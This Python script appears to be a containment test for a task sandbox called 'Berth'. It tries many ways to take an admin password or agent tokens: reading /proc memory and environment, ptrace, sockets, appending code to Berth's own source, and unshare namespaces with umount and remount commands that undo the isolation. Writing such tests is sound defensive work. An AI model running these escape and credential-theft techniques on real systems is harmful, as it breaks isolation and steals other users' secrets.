"""An attack that a claimant's task tries, to get hold of Berth's passwords. Runs as a task:
`python3 attack.py HOME CODE PID`.

The script knows the secret backwards. It reports by which way it has seen the secret, or leaves a
process that runs outside of the task later on.
"""

import ctypes
import os
import pathlib
import socket
import struct
import subprocess
import sys

HOME, CODE, VICTIM = pathlib.Path(sys.argv[1]), pathlib.Path(sys.argv[2]), int(sys.argv[3])
SECRET = "drowssap-a-si-siht"[::-1]
UNDO = (
    f"umount -l {HOME}; umount {HOME}; mount -o remount,rw,bind /; mount -o remount,rw,bind "
    f"{CODE}; umount -l /proc"
)


def read(path):
    return pathlib.Path(path).read_bytes().decode("latin-1")


def processes():
    return [
        entry
        for entry in pathlib.Path("/proc").iterdir()
        if entry.name.isdigit() and int(entry.name) != os.getpid()
    ]


def of_processes(name):
    found = ""
    for entry in processes():
        try:
            found += read(entry / name)
        except OSError:
            continue
    return found


def through(name):
    """Another process's root or working folder leads to files that are hidden here."""
    for entry in processes():
        for inside in (HOME.relative_to("/") / "admin-password", "admin-password"):
            try:
                return read(entry / name / inside)
            except OSError:
                continue
    return ""


def trace():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, VICTIM, 0, 0) == 0:
        return SECRET
    return ""


def memory():
    for entry in processes():
        try:
            with (entry / "mem").open("rb", 0) as mem:
                for line in read(entry / "maps").splitlines():
                    start, end = (int(number, 16) for number in line.split()[0].split("-"))
                    if " rw" in line and end - start < 1 << 24:
                        mem.seek(start)
                        if SECRET.encode() in mem.read(end - start):
                            return SECRET
        except (OSError, ValueError, struct.error):
            continue
    return ""


def signal():
    os.kill(VICTIM, 0)
    return SECRET


def connect(path):
    with socket.socket(socket.AF_UNIX) as line:
        line.settimeout(5)
        line.connect(str(path))
        return line.recv(100).decode()


def write(path):
    with pathlib.Path(path).open("a") as file:
        file.write("import os  # runs as Berth the next time\n")
    return SECRET


def nested(what):
    """Runs a command as root of new namespaces."""
    return subprocess.run(
        ["unshare", "-Urm", "sh", "-c", f"{UNDO}; {what}"], capture_output=True, text=True
    ).stdout


def set_user_id():
    done = subprocess.run(["unshare", "-Ur", "sh", "-c", UNDO], capture_output=True, text=True)
    return read(HOME / "admin-password") if done.returncode is not None else ""


WAYS = {
    "file": lambda: read(HOME / "admin-password"),
    "token": lambda: "".join(read(file) for file in HOME.glob("agents/*/token-*")),
    "another task's folder": lambda: "".join(
        read(file) for file in HOME.glob("agents/*/work/*/src/theirs")
    ),
    "environ": lambda: of_processes("environ"),
    "cmdline": lambda: of_processes("cmdline"),
    "root": lambda: through("root"),
    "cwd": lambda: through("cwd"),
    "ptrace": trace,
    "memory": memory,
    "signal": signal,
    "socket in the state": lambda: connect(HOME / "socket"),
    "socket in /tmp": lambda: connect(f"/tmp/berth-attack-{os.getuid()}"),
    "shared memory": lambda: read(f"/dev/shm/berth-attack-{os.getuid()}"),
    "Berth's code": lambda: write(CODE / "code.py"),
    "nested": lambda: nested(f"cat {HOME}/admin-password"),
    "nested environ": lambda: nested(f"cat /proc/{VICTIM}/environ"),
    "nested mount": lambda: nested(
        f"mkdir -p /tmp/all; mount --rbind / /tmp/all; cat /tmp/all{HOME}/admin-password"
    ),
    "nested write": lambda: (
        SECRET if "ok" in nested(f"echo x >> {CODE}/code.py && echo ok") else ""
    ),
    "umount": set_user_id,
}

for name, way in WAYS.items():
    try:
        told = way() or ""
    except (OSError, subprocess.SubprocessError):
        told = ""
    print(f"{name}: {'LEAKED' if SECRET in told else 'kept'}", flush=True)
